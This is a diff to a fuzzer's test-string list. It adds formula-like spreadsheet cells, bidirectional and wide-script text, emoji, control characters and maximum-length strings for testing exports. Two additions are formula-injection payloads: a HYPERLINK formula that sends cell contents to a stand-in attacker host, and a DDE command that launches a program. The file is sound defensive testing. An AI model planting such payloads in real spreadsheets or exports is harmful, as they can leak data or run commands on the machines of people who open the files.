@@ -2,7 +2,7 @@
  * Mutations for the fuzzer: on parsed values (replace, delete, add, duplicate, swap nodes) and on text (insert syntax
  * and control characters, cut, duplicate and re-indent lines, truncate). The odd values are ones that have broken
  * parsers, escapers and renderers elsewhere: lone surrogates, carriage returns, NUL, byte-order marks, markup, huge
- * and special numbers, prototype keys, long strings.
+ * and special numbers, prototype keys, long strings, formula-like cells, right-to-left and wide text, emoji.
  */
 import { dump } from 'js-yaml';
 import type { Random } from './random.js';
@@ -48,6 +48,25 @@ export const ODD_STRINGS: readonly string[] = [
   '2026-13-45',
   '9999-12-31',
   'password123',
+  // formula-like: a spreadsheet (XLSX, CSV) must show these as text
+  '=HYPERLINK("http://attacker.invalid/?"&A1,"x")',
+  '+1+1',
+  '-2+3',
+  '@SUM(A1:A9)',
+  '\t=1+1',
+  '\r=1+1',
+  "=cmd|' /C calc'!A0",
+  'x;=1+1',
+  // right-to-left marks and text, wide scripts, emoji sequences, C0 and C1 controls: for the PDF's fonts and layout
+  '\u200fשלום\u200e abc',
+  'مرحبا بالعالم',
+  '東京都の監視カメラ 한국어',
+  '👩‍👩‍👧‍👦🏳️‍🌈🇪🇺',
+  '\u0007\u0008\u000b\u000c\u007f\u0085\u009b',
+  // the longest id a model takes, and free text at its 20 000-character limit: one word, and many
+  `i${'d:'.repeat(63)}x`,
+  'w'.repeat(20_000),
+  'word '.repeat(4_000),
 ];
 
 const ODD_SCALARS: readonly unknown[] = [
